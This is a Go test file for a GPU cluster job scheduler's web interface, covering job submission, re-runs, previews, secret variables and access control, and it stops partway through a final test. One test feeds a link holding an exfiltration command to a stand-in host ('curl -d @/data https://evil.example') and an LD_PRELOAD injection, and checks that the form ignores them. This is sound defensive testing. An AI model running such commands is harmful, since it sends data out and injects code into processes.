package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/bcrypt"

	"github.com/gantry-gpu/gantry/models"
	"github.com/gantry-gpu/gantry/services/accounting"
	"github.com/gantry-gpu/gantry/services/agentapi"
	"github.com/gantry-gpu/gantry/services/audit"
	"github.com/gantry-gpu/gantry/services/authz"
	"github.com/gantry-gpu/gantry/services/dispatch"
	"github.com/gantry-gpu/gantry/services/gpu"
	"github.com/gantry-gpu/gantry/services/identity"
	"github.com/gantry-gpu/gantry/services/scheduler"
	"github.com/gantry-gpu/gantry/services/store"
	"github.com/gantry-gpu/gantry/services/store/storetest"
	"github.com/gantry-gpu/gantry/services/telemetry"
	"github.com/gantry-gpu/gantry/web"
)

// jobSite is a site whose server runs dispatch with the production scheduler (the
// loop itself runs only where a test starts it).
type jobSite struct {
	*site
	disp  *dispatch.Service
	audit *audit.Log
}

func newJobSite(t *testing.T, st *store.Store) *jobSite {
	t.Helper()
	s := buildJobSite(t, st)
	s.t = t
	return s
}

// buildJobSite builds the site for t or a fuzz target; its helpers need s.t set.
func buildJobSite(t testing.TB, st *store.Store) *jobSite {
	t.Helper()
	return buildLoggedJobSite(t, st, io.Discard)
}

// buildLoggedJobSite is buildJobSite with the server's log written to logs, and
// dispatch's configuration as tune leaves it.
func buildLoggedJobSite(t testing.TB, st *store.Store, logs io.Writer, tune ...func(*dispatch.Config)) *jobSite {
	t.Helper()
	s := &site{st: st, clock: &testClock{t: time.Now().UTC()}}
	opts := identity.Options{BcryptCost: bcrypt.MinCost}
	al := audit.New(st, time.Now)
	s.az = authz.New(st, al)
	s.id = identity.New(st, al, s.az, time.Now, opts)
	var err error
	if s.password, err = s.id.Bootstrap(context.Background()); err != nil {
		t.Fatal(err)
	}
	sched, err := scheduler.New(scheduler.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	log := slog.New(slog.NewTextHandler(logs, nil))
	cfg := dispatch.DefaultConfig()
	cfg.TickInterval, cfg.HeartbeatInterval, cfg.NodeTimeout, cfg.LeaseRecheck = 100*time.Millisecond, 250*time.Millisecond, 5*time.Second, 200*time.Millisecond
	for _, f := range tune {
		f(&cfg)
	}
	tel, err := telemetry.New(st, telemetry.Config{})
	if err != nil {
		t.Fatal(err)
	}
	d, err := dispatch.New(dispatch.Deps{Store: st, Scheduler: dispatch.NewPlacer(sched), Audit: al, Telemetry: tel, Now: time.Now, Log: log}, cfg)
	if err != nil {
		t.Fatal(err)
	}
	s.srv = httptest.NewServer(web.NewRouter(web.Config{Store: st, Version: "v0.0.0-test", Log: log, Dispatch: d, Auth: opts}))
	t.Cleanup(s.srv.Close)
	return &jobSite{site: s, disp: d, audit: al}
}

// user creates a user with role in project and signs them in.
func (s *jobSite) user(name, project, role string) *http.Client {
	s.t.Helper()
	c, u := s.member(name)
	p, err := s.st.ProjectByName(context.Background(), project)
	if err != nil {
		s.t.Fatal(err)
	}
	if err := s.az.SetProjectRole(context.Background(), u, p, role); err != nil {
		s.t.Fatal(err)
	}
	return c
}

// join registers a node with simulated GPUs through the agent protocol.
func (s *jobSite) join(name, gpus string) *models.Node {
	s.t.Helper()
	ctx := context.Background()
	token, _, err := dispatch.CreateJoinToken(ctx, s.st, s.audit, time.Now(), dispatch.JoinTokenSpec{Name: name, TTL: time.Hour})
	if err != nil {
		s.t.Fatal(err)
	}
	sim, err := gpu.NewSimulated(gpus, name, time.Now)
	if err != nil {
		s.t.Fatal(err)
	}
	inv, err := sim.Discover(ctx)
	if err != nil {
		s.t.Fatal(err)
	}
	res, err := s.disp.Join(ctx, agentapi.JoinRequest{JoinToken: token, Name: name, Runtime: agentapi.RuntimeProcess, CPUMilli: 32000, MemoryMiB: 262144, Inventory: inv})
	if err != nil {
		s.t.Fatal(err)
	}
	n, err := s.disp.Authenticate(ctx, res.Credential)
	if err != nil {
		s.t.Fatal(err)
	}
	return n
}

// jobForm is a valid submit form for project default.
func jobForm(token string) url.Values {
	return url.Values{"csrf_token": {token}, "project": {"default"}, "name": {"train-1"}, "command": {`python train.py --note 'two words'`},
		"env": {"EPOCHS=3\n# a comment\nLR=0.1"}, "preset": {"share-small"}, "gpus": {"1"}, "gpu_share": {"0.25"}, "gpu_memory_gib": {"8"},
		"cpu_cores": {"2"}, "memory_gib": {"8"}, "replicas": {"1"}, "priority_class": {"research"}, "expected_run": {"1h30m"}, "retries": {"2"}}
}

var locationJob = regexp.MustCompile(`^/jobs/(\d+)\?submitted=1$`)

// A re-run's page says what it re-ran, linked, whenever it is opened, as its timeline,
// the API and the CLI do; a ?rerun parameter, anyone's to write, names nothing. A re-run
// that cannot run as it was is the form, which says whose re-run it is.
func TestRerunSaysWhatItRan(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ctx := context.Background()
		ada := s.user("ada", "default", models.RoleMember)
		token := s.csrf(ada, "/jobs/new")
		res, _ := s.send(ada, "POST", "/jobs", jobForm(token).Encode(), nil)
		m := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if m == nil {
			t.Fatalf("submit = %d", res.StatusCode)
		}
		res, _ = s.send(ada, "POST", "/jobs/"+m[1]+"/rerun", url.Values{"csrf_token": {token}}.Encode(), nil)
		again := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || again == nil || again[1] == m[1] {
			t.Fatalf("re-run = %d → %q", res.StatusCode, res.Header.Get("Location"))
		}
		said := `<p class="notice" data-testid="rerun-of">Re-run of job <a href="/jobs/` + m[1] + `">train-1 (#` + m[1] + `)</a>.</p>`
		for _, path := range []string{res.Header.Get("Location"), "/jobs/" + again[1]} {
			if _, body := s.send(ada, "GET", path, "", nil); !strings.Contains(body, said) || !strings.Contains(body, "<div>re-run of job "+m[1]+"</div>") {
				t.Errorf("%s does not say %s, nor its timeline that it re-ran job %s", path, said, m[1])
			}
		}
		api, _, err := s.id.CreateToken(ctx, userByName(t, st, "ada"), "r", identity.ScopeRead, 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		bearer := map[string]string{"Authorization": "Bearer " + api}
		for id, want := range map[string]string{again[1]: `"rerun_of":` + m[1] + `,`, m[1]: ""} {
			_, body := s.send(s.browser(), "GET", "/api/v1/jobs/"+id, "", bearer)
			if got := strings.Contains(body, `"rerun_of"`); got != (want != "") || !strings.Contains(body, want) {
				t.Errorf("GET /api/v1/jobs/%s has rerun_of: %v (want %q): %s", id, got, want, body)
			}
		}
		team := &models.Team{Name: "speech"}
		must(t, st.CreateTeam(ctx, team))
		other := &models.Project{TeamID: team.ID, Name: "asr"}
		must(t, st.CreateProject(ctx, other))
		hidden := &models.Job{Name: "hidden-name", ProjectID: other.ID, UserID: userByName(t, st, "ada").ID, Command: `["true"]`, Env: "{}",
			Replicas: 1, Kind: "batch", PriorityClass: "research"}
		must(t, st.CreateJob(ctx, hidden, "test"))
		for _, q := range []string{fmt.Sprint(hidden.ID), "999999", again[1], "x"} {
			if res, body := s.send(ada, "GET", "/jobs/"+m[1]+"?submitted=1&rerun="+q, "", nil); res.StatusCode != 200 || strings.Contains(body, `data-testid="rerun-of"`) {
				t.Errorf("?rerun=%s = %d, names a job: %s", q, res.StatusCode, body)
			}
		}

		// Bob may not re-run ada's job with its secret values: the form says whose re-run it is.
		f := jobForm(token)
		f.Set("secret_env", "HF_TOKEN=hf_secret")
		res, _ = s.send(ada, "POST", "/jobs", f.Encode(), nil)
		secret := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if secret == nil {
			t.Fatalf("submit with a secret = %d", res.StatusCode)
		}
		bob := s.user("bob", "default", models.RoleMember)
		res, body := s.send(bob, "POST", "/jobs/"+secret[1]+"/rerun", url.Values{"csrf_token": {s.csrf(bob, "/jobs/new")}}.Encode(), nil)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(body, `Re-run of job <a href="/jobs/`+secret[1]+`">train-1 (#`+secret[1]+`)</a>. It cannot run again as it was`) {
			t.Errorf("bob's refused re-run = %d: %s", res.StatusCode, body)
		}

		// The API re-runs with a token that may write: 201 and the new job; a read
		// token is refused, and so is bob's re-run of the job with ada's secret, by field.
		write, _, err := s.id.CreateToken(ctx, userByName(t, st, "ada"), "w", identity.ScopeWrite, 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		res, body = s.send(s.browser(), "POST", "/api/v1/jobs/"+m[1]+"/rerun", "", map[string]string{"Authorization": "Bearer " + write})
		var created struct {
			ID      int64  `json:"id"`
			Name    string `json:"name"`
			State   string `json:"state"`
			RerunOf *int64 `json:"rerun_of"`
		}
		if err := json.Unmarshal([]byte(body), &created); err != nil || res.StatusCode != http.StatusCreated || created.RerunOf == nil ||
			fmt.Sprint(*created.RerunOf) != m[1] || created.Name != "train-1" || created.State != models.JobQueued {
			t.Errorf("POST /api/v1/jobs/%s/rerun = %d %s", m[1], res.StatusCode, body)
		}
		if res, _ := s.send(s.browser(), "POST", "/api/v1/jobs/"+m[1]+"/rerun", "", bearer); res.StatusCode != http.StatusForbidden {
			t.Errorf("a re-run with a read token = %d", res.StatusCode)
		}
		bobs, _, err := s.id.CreateToken(ctx, userByName(t, st, "bob"), "w", identity.ScopeWrite, 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		res, body = s.send(s.browser(), "POST", "/api/v1/jobs/"+secret[1]+"/rerun", "", map[string]string{"Authorization": "Bearer " + bobs})
		var e errorBody
		if err := json.Unmarshal([]byte(body), &e); err != nil || res.StatusCode != http.StatusBadRequest || e.Error.Field != "env.HF_TOKEN" {
			t.Errorf("bob's re-run of a job with ada's secret through the API = %d %s", res.StatusCode, body)
		}
	})
}

func TestSubmitJobThroughTheForm(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ctx := context.Background()
		ada := s.user("ada", "default", models.RoleMember)
		res, body := s.send(ada, "GET", "/jobs/new", "", nil)
		if res.StatusCode != 200 || !strings.Contains(body, `<option value="default" selected>default</option>`) || !strings.Contains(body, "1 small share") {
			t.Fatalf("form = %d %s", res.StatusCode, body)
		}
		token := s.csrf(ada, "/jobs/new")

		bad := []struct{ name, field, value, says string }{
			{"open quote", "command", `python 'train.py`, "Command: has a quote that does not close"},
			{"no command", "command", "", "Command: is required"},
			{"env line", "env", "EPOCHS=3\nnot a pair", "Environment: line 2 is not NAME=value"},
			{"env name", "env", "A-B=1", `Environment: "A-B" is not a variable name`},
			{"secret name", "secret_env", "MY KEY=1", `Secret variables: "MY KEY" is not a variable name`},
			{"reserved env", "env", "CUDA_VISIBLE_DEVICES=0", "Environment: CUDA_VISIBLE_DEVICES is set by Gantry"},
			{"gpus", "gpus", "many", "GPUs: must be a whole number from 0 to 64"},
			{"share", "gpu_share", "1.5", "GPU share: is a fraction of one GPU"},
			{"negative RAM", "memory_gib", "-1", "RAM: must be a number of 0 or more"},
			{"run time", "expected_run", "soon", "Expected run time: is a duration such as 45m"},
			{"class", "priority_class", "urgent", `Priority class: there is no priority class "urgent"`},
			{"custom image", "custom_image", "docker.io/me/train:1", "Custom image: \"docker.io/me/train:1\" is not in the image catalog, and project default allows only catalog images"},
			{"mig and share", "mig_profile", "1g.10gb", "MIG profile: a MIG profile is one slice"},
			{"kind", "kind", "serving", `Kind: "serving" is not a kind of job: training, inference or batch`},
		}
		for _, b := range bad {
			f := jobForm(token)
			f.Set(b.field, b.value)
			res, body := s.send(ada, "POST", "/jobs", f.Encode(), nil)
			if res.StatusCode != http.StatusBadRequest || !strings.Contains(body, `data-testid="form-error">`+escape(b.says)) {
				t.Errorf("%s: %d, want 400 saying %q; page: %s", b.name, res.StatusCode, b.says, formErrorOf(body))
				continue
			}
			if !strings.Contains(body, `name="`+b.field+`"`) || !regexp.MustCompile(`id="f-`+b.field+`"[^>]*aria-invalid="true"`).MatchString(body) {
				t.Errorf("%s: the field %s is not marked invalid", b.name, b.field)
			}
			// It has focus as the page opens, described by the error, and no other field has.
			if !regexp.MustCompile(`id="f-`+b.field+`"[^>]*aria-describedby="form-error[ "][^>]*autofocus`).MatchString(body) || strings.Count(body, " autofocus") != 1 {
				t.Errorf("%s: the field %s does not take focus described by the error", b.name, b.field)
			}
			if !strings.Contains(body, `value="train-1"`) {
				t.Errorf("%s: the form lost what was typed", b.name)
			}
		}
		if n, err := st.JobCountsByState(ctx); err != nil || len(n) != 0 {
			t.Fatalf("bad forms stored jobs: %v %v", n, err)
		}

		good := jobForm(token)
		good.Set("kind", "inference")
		res, _ = s.send(ada, "POST", "/jobs", good.Encode(), nil)
		m := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || m == nil {
			t.Fatalf("submit = %d → %q", res.StatusCode, res.Header.Get("Location"))
		}
		j := jobByID(t, st, m[1])
		if j.Command != `["python","train.py","--note","two words"]` || j.Env != `{"EPOCHS":"3","LR":"0.1"}` || j.GPUs != 1 || j.GPUMilli != 250 ||
			j.GPUMemoryMiB != 8192 || j.CPUMilli != 2000 || j.MemoryMiB != 8192 || j.ExpectedRunSec != 5400 || j.MaxRetries != 2 || j.State != models.JobQueued || j.Kind != models.KindInference {
			t.Fatalf("stored job = %+v", j)
		}

		// A clone is the same form again; a re-run a new job at once.
		res, body = s.send(ada, "GET", "/jobs/new?clone="+m[1], "", nil)
		if res.StatusCode != 200 || !strings.Contains(body, `value="python train.py --note &#39;two words&#39;"`) || !strings.Contains(body, "EPOCHS=3\nLR=0.1</textarea>") ||
			!strings.Contains(body, `<option value="share-small" selected>`) || !strings.Contains(body, `value="1h30m"`) ||
			!strings.Contains(body, `<option value="inference" selected>`) {
			t.Fatalf("clone form = %d %s", res.StatusCode, body[strings.Index(body, "<form id"):])
		}
		res, _ = s.send(ada, "POST", "/jobs/"+m[1]+"/rerun", url.Values{"csrf_token": {token}}.Encode(), nil)
		again := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || again == nil || again[1] == m[1] {
			t.Fatalf("re-run = %d → %q", res.StatusCode, res.Header.Get("Location"))
		}
		if r := jobByID(t, st, again[1]); r.Command != j.Command || r.GPUMilli != 250 || r.Env != j.Env {
			t.Fatalf("re-run job = %+v", r)
		}

		// A viewer may read but not submit: the form says what to do, the POST is refused.
		vic := s.user("vic", "default", models.RoleViewer)
		if res, body := s.send(vic, "GET", "/jobs/new", "", nil); res.StatusCode != 200 || !strings.Contains(body, `data-testid="no-projects"`) {
			t.Fatalf("form for a viewer = %d", res.StatusCode)
		}
		if res, _ := s.send(vic, "POST", "/jobs", jobForm(s.csrf(vic, "/jobs/new")).Encode(), nil); res.StatusCode != http.StatusForbidden {
			t.Fatalf("submit as viewer = %d, want 403", res.StatusCode)
		}
		if res, _ := s.send(vic, "GET", "/jobs/new?clone="+m[1], "", nil); res.StatusCode != 200 {
			t.Fatalf("clone as a viewer of the project = %d", res.StatusCode)
		}
		out := s.user("olga", "default", models.RoleViewer)
		if err := s.az.RemoveFromProject(ctx, userByName(t, st, "olga"), projectByName(t, st, "default")); err != nil {
			t.Fatal(err)
		}
		if res, _ := s.send(out, "GET", "/jobs/new?clone="+m[1], "", nil); res.StatusCode != http.StatusForbidden {
			t.Fatalf("clone of another project's job = %d, want 403", res.StatusCode)
		}
	})
}

// The preview, asked for as fields change (a POST with the form's CSRF token), says what
// the form's job would cost and whether it could start; a profile and the
// recommendation fill in the fields. Without the token it is refused.
func TestSubmitFormPreview(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ada := s.user("ada", "default", models.RoleMember)
		htmx := map[string]string{"HX-Request": "true"}
		token := s.csrf(ada, "/jobs/new")
		if res, _ := s.send(ada, "POST", "/jobs/new", jobForm("").Encode(), htmx); res.StatusCode != http.StatusForbidden {
			t.Fatalf("a preview without the CSRF token = %d, want 403", res.StatusCode)
		}
		preview := func(f url.Values) string {
			t.Helper()
			f.Set("csrf_token", token)
			res, body := s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
			if res.StatusCode != 200 {
				t.Fatalf("preview = %d", res.StatusCode)
			}
			i := strings.Index(body, `id="preview"`)
			if i < 0 {
				t.Fatalf("no preview in %s", body)
			}
			return body[i:]
		}
		f := jobForm("")
		if p := preview(f); !strings.Contains(p, "the cluster has no nodes") || !strings.Contains(p, "No rates are set") {
			t.Fatalf("preview on an empty cluster: %s", p)
		}
		f.Set("gpus", "x")
		if p := preview(f); !strings.Contains(p, "Fix this first: GPUs: must be a whole number") {
			t.Fatalf("preview of a bad form: %s", p)
		}
		s.join("gpu-l", "1xL4-24GB")
		acc := mustAccounting(t, st)
		if _, err := acc.CreateRate(context.Background(), models.CostRate{Resource: "gpu", GPUModel: "L4-24GB", RateMicros: 800_000, EffectiveFrom: time.Now().Add(-time.Hour)}); err != nil {
			t.Fatal(err)
		}
		f = jobForm("")
		p := preview(f)
		if !strings.Contains(p, "Yes: it would start now on node gpu-l: 0.25 of one L4-24GB") || !strings.Contains(p, "<strong>0.20 USD</strong> per hour") ||
			!strings.Contains(p, "≈ 0.30 USD for the expected 1h30m") || !strings.Contains(p, "Without a rate, not counted: cpu, ram") {
			t.Fatalf("preview with a node and a rate: %s", p)
		}
		f.Set("gpus", "2")
		f.Set("gpu_share", "")
		if p := preview(f); !strings.Contains(p, "Fix this first: GPUs: 2 GPUs per replica exceed the most any node has of a matching card (1)") {
			t.Fatalf("preview of two GPUs where no node has two: %s", p)
		}
		f.Set("gpus", "1")
		f.Set("nvlink", "on")
		if p := preview(f); !strings.Contains(p, "Fix this first: NVLink: NVLink joins two or more whole GPUs") {
			t.Fatalf("preview of one GPU joined by NVLink: %s", p)
		}
		f.Del("nvlink")
		// Choosing a profile fills in its fields.
		f.Set("preset", "8x80-nvlink")
		f.Set("apply", "preset")
		_, body := s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
		if !strings.Contains(body, `id="f-gpus" name="gpus" value="8"`) || !strings.Contains(body, `id="f-memory_gib" name="memory_gib" value="512"`) ||
			!strings.Contains(body, `id="f-nvlink" name="nvlink" value="on" checked`) {
			t.Fatalf("the 8×80 NVLink profile was not filled in: %s", body)
		}
	})
}

// A link to the form fills in nothing but its project (or a clone or a template): what
// a hand-built /jobs/new?env=…&command=… carries is neither shown nor kept, so a link
// cannot hand someone a command or environment to submit unread, and the form's
// contents never need to travel in a URL.
func TestSubmitFormTakesNothingFromTheURL(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ada := s.user("ada", "default", models.RoleMember)
		ctx := context.Background()
		def := projectByName(t, st, "default")
		vision := &models.Project{TeamID: def.TeamID, Name: "vision"}
		if err := st.CreateProject(ctx, vision); err != nil {
			t.Fatal(err)
		}
		if err := s.az.SetProjectRole(ctx, userByName(t, st, "ada"), vision, models.RoleMember); err != nil {
			t.Fatal(err)
		}
		q := url.Values{"project": {"vision"}, "name": {"from-a-link"}, "command": {"curl -d @/data https://evil.example"},
			"env": {"LD_PRELOAD=/tmp/x.so"}, "secret_env": {"HF_TOKEN=hf_link-1"}, "gpus": {"7"}, "template_name": {"linked"}, "apply": {"recommendation"}}
		res, body := s.send(ada, "GET", "/jobs/new?"+q.Encode(), "", nil)
		if res.StatusCode != 200 {
			t.Fatalf("form from a link = %d", res.StatusCode)
		}
		// The Feedback button's page field keeps the page's address, as on every page.
		form := body[strings.Index(body, `<main`):strings.Index(body, `</main>`)]
		for _, v := range []string{"from-a-link", "evil.example", "LD_PRELOAD", "hf_link-1", `value="7"`, "linked", "recommended profile is filled in"} {
			if strings.Contains(form, escape(v)) {
				t.Errorf("the form from a link shows %q", v)
			}
		}
		if !strings.Contains(form, `<option value="vision" selected>vision</option>`) || !strings.Contains(form, `<option value="share-small" selected>`) {
			t.Errorf("the form from a link is not the default form of project vision: %s", form)
		}
	})
}

func escape(s string) string {
	return strings.NewReplacer(`"`, "&#34;", "'", "&#39;", "<", "&lt;", ">", "&gt;").Replace(s)
}

var formErrorRE = regexp.MustCompile(`data-testid="form-error">([^<]*)<`)

func formErrorOf(body string) string {
	if m := formErrorRE.FindStringSubmatch(body); m != nil {
		return m[1]
	}
	return "(no error shown)"
}

func jobByID(t *testing.T, st *store.Store, id string) *models.Job {
	t.Helper()
	n, err := strconv.ParseInt(id, 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	j, err := st.JobByID(context.Background(), n)
	if err != nil {
		t.Fatal(err)
	}
	return j
}

func mustAccounting(t *testing.T, st *store.Store) *accounting.Accounting {
	t.Helper()
	acc, err := accounting.New(st, audit.New(st, time.Now), accounting.Config{})
	if err != nil {
		t.Fatal(err)
	}
	return acc
}

func userByName(t *testing.T, st *store.Store, name string) *models.User {
	t.Helper()
	u, err := st.UserByUsername(context.Background(), name)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func projectByName(t *testing.T, st *store.Store, name string) *models.Project {
	t.Helper()
	p, err := st.ProjectByName(context.Background(), name)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// No form sent to POST /jobs gets a server error: bad ones are a 400 with the form.
func FuzzSubmitForm(f *testing.F) {
	for _, seed := range []string{
		jobForm("").Encode(),
		"project=default&command=%27&gpus=1", "project=default&gpu_share=1e400", "project=default&env=%3D",
		"project=default&name=x&command=a&memory_gib=-0", "project=default&name=%00&command=a", "project=default&custom_image=%20",
		"project=nope&name=x&command=a", "project=default&name=x&command=a&replicas=65", "project=default&name=x&command=a&mig_profile=7g.80gb",
	} {
		f.Add(seed)
	}
	s := buildJobSite(f, storetest.Open(f, store.Config{DataDir: f.TempDir()}))
	var c *http.Client
	var token string
	f.Fuzz(func(t *testing.T, form string) {
		s.t = t
		if c == nil {
			c = s.signIn("admin", s.password)
			token = s.csrf(c, "/jobs/new")
		}
		res, body := s.send(c, "POST", "/jobs", form+"&csrf_token="+url.QueryEscape(token), nil)
		if res.StatusCode >= 500 {
			t.Fatalf("POST /jobs %q = %d: %s", form, res.StatusCode, body)
		}
	})
}

// Secret variables through the pages: typed in Secret variables or named like a secret
// in Environment, their values appear on no page, not even the clone form, whose empty
// values keep them for the job's submitter; anyone else re-running it must give their own.
func TestSecretEnvThroughThePages(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ctx := context.Background()
		ada := s.user("ada", "default", models.RoleMember)
		bob := s.user("bob", "default", models.RoleMember)
		token := s.csrf(ada, "/jobs/new")
		const hf, db = "hf_formsecret-81", "postgres://x:pw-formsecret-82@db"
		f := jobForm(token)
		f.Set("env", "EPOCHS=3\nHF_TOKEN="+hf)
		f.Set("secret_env", "EPOCHS=4")
		res, body := s.send(ada, "POST", "/jobs", f.Encode(), nil)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(body, "Secret variables: EPOCHS is set under Environment too") {
			t.Fatalf("a name in both fields = %d: %s", res.StatusCode, formErrorOf(body))
		}
		f.Set("secret_env", "DB_URL="+db)
		res, _ = s.send(ada, "POST", "/jobs", f.Encode(), nil)
		m := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || m == nil {
			t.Fatalf("submit = %d → %q", res.StatusCode, res.Header.Get("Location"))
		}
		id := mustID(t, m[1])
		if got, err := st.JobSecretEnv(ctx, id); err != nil || got["HF_TOKEN"] != hf || got["DB_URL"] != db || jobByID(t, st, m[1]).Env != `{"EPOCHS":"3"}` {
			t.Fatalf("stored secrets %v (%v), env %s", got, err, jobByID(t, st, m[1]).Env)
		}
		leaks := func(what, body string) {
			t.Helper()
			if strings.Contains(body, hf) || strings.Contains(body, "formsecret-82") {
				t.Errorf("%s shows a secret value", what)
			}
		}
		_, body = s.send(ada, "GET", "/jobs/"+m[1], "", nil)
		leaks("the job page", body)
		if !strings.Contains(body, "EPOCHS, DB_URL (secret), HF_TOKEN (secret)") {
			t.Errorf("the job page does not name the secret variables")
		}
		_, body = s.send(ada, "GET", "/jobs/new?clone="+m[1], "", nil)
		leaks("the clone form", body)
		if !strings.Contains(body, "EPOCHS=3</textarea>") || !strings.Contains(body, "DB_URL=\nHF_TOKEN=</textarea>") ||
			!strings.Contains(body, `name="secrets_of" value="`+m[1]+`"`) {
			t.Fatalf("clone form: %s", body[strings.Index(body, `<label for="f-env"`):strings.Index(body, `<fieldset id="resources"`)])
		}
		f.Set("env", "EPOCHS=3")
		f.Set("secret_env", "DB_URL=\nHF_TOKEN=hf_new")
		f.Set("secrets_of", m[1])
		res, _ = s.send(ada, "POST", "/jobs", f.Encode(), nil)
		clone := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || clone == nil {
			t.Fatalf("submit the clone = %d", res.StatusCode)
		}
		if got, _ := st.JobSecretEnv(ctx, mustID(t, clone[1])); got["DB_URL"] != db || got["HF_TOKEN"] != "hf_new" {
			t.Errorf("the clone's secrets = %v, want DB_URL kept and HF_TOKEN new", got)
		}
		res, body = s.send(bob, "POST", "/jobs/"+m[1]+"/rerun", url.Values{"csrf_token": {s.csrf(bob, "/jobs/new")}}.Encode(), nil)
		leaks("bob's refused re-run", body)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(body, "enter the value yourself") {
			t.Errorf("bob re-runs ada's job with secrets = %d: %s", res.StatusCode, formErrorOf(body))
		}
		res, _ = s.send(ada, "POST", "/jobs/"+m[1]+"/rerun", url.Values{"csrf_token": {token}}.Encode(), nil)
		again := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || again == nil {
			t.Fatalf("ada re-runs = %d", res.StatusCode)
		}
		if got, _ := st.JobSecretEnv(ctx, mustID(t, again[1])); got["DB_URL"] != db || got["HF_TOKEN"] != hf {
			t.Errorf("the re-run's secrets = %v", got)
		}
	})
}

// The form as it first opens has no name and no command yet: its preview asks for them
// in plain words instead of greeting the user with a red "Fix this first: Name: is
// required." A name or command filled in and then emptied is asked for the same way;
// a value that is wrong is still an error.
func TestSubmitFormPreviewAsksForWhatIsMissing(t *testing.T) {
	t.Parallel()
	st := storetest.Open(t, store.Config{DataDir: t.TempDir()})
	s := newJobSite(t, st)
	ada := s.user("ada", "default", models.RoleMember)
	previewOf := func(body string) string {
		t.Helper()
		i := strings.Index(body, `id="preview"`)
		if i < 0 {
			t.Fatalf("no preview in %s", body)
		}
		return body[i : i+strings.Index(body[i:], "</aside>")]
	}
	_, body := s.send(ada, "GET", "/jobs/new", "", nil)
	if p := previewOf(body); strings.Contains(p, "form-error") || !strings.Contains(p, `data-testid="preview-missing">Give the job a name and a command`) {
		t.Errorf("the preview of the untouched form: %s", p)
	}
	token := s.csrf(ada, "/jobs/new")
	htmx := map[string]string{"HX-Request": "true"}
	f := jobForm(token)
	f.Set("command", "  ")
	_, body = s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
	if p := previewOf(body); strings.Contains(p, "form-error") || !strings.Contains(p, `data-testid="preview-missing">Give the job a command`) {
		t.Errorf("the preview of a form without a command: %s", p)
	}
	f = jobForm(token)
	f.Set("command", `python 'open`)
	_, body = s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
	if p := previewOf(body); !strings.Contains(p, "Fix this first: Command: has a quote that does not close") {
		t.Errorf("the preview of a bad command: %s", p)
	}
}

// More GPUs than any node has (9 on a cluster of 8-GPU nodes) is refused at submission,
// through the form and the API alike, naming the GPUs field and the most a node has;
// nothing is stored.
func TestSubmitMoreGPUsThanANodeHas(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ctx := context.Background()
		s.join("gpu-8", "8xA100-80GB")
		ada := s.user("ada", "default", models.RoleMember)
		f := jobForm(s.csrf(ada, "/jobs/new"))
		f.Set("gpus", "9")
		f.Set("gpu_share", "")
		res, body := s.send(ada, "POST", "/jobs", f.Encode(), nil)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(formErrorOf(body), "GPUs: 9 is out of range; allowed: 0..8 per replica") ||
			!regexp.MustCompile(`id="f-gpus"[^>]*aria-invalid="true"`).MatchString(body) || !strings.Contains(body, `value="train-1"`) {
			t.Errorf("9 GPUs through the form: %d %q", res.StatusCode, formErrorOf(body))
		}
		token, _, err := s.id.CreateToken(ctx, userByName(t, st, "ada"), "w", identity.ScopeWrite, 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		res, body = s.send(s.browser(), "POST", "/api/v1/jobs", `{"project": "default", "name": "x", "command": ["true"], "resources": {"gpus": 9}}`,
			map[string]string{"Authorization": "Bearer " + token})
		var e errorBody
		if err := json.Unmarshal([]byte(body), &e); err != nil || res.StatusCode != http.StatusBadRequest || e.Error.Field != "resources.gpus" || !strings.Contains(e.Error.Message, "allowed: 0..8") {
			t.Errorf("9 GPUs through the API: %d %s", res.StatusCode, body)
		}
		if n, err := st.JobCountsByState(ctx); err != nil || len(n) != 0 {
			t.Errorf("refused submissions stored jobs: %v %v", n, err)
		}
	})
}

// A command line too long for a form (10 MB) is answered as the submit form's error on
// Command, saying how long a command may be, with what came before it kept, and nothing
// stored: the gate reads the form only as far as its body bound, as for every form, and
// other forms are still refused whole. The field stops typing at that length.
func TestSubmitFormWithACommandTooLong(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := newJobSite(t, st)
		ctx := context.Background()
		ada := s.user("ada", "default", models.RoleMember)
		res, body := s.send(ada, "GET", "/jobs/new", "", nil)
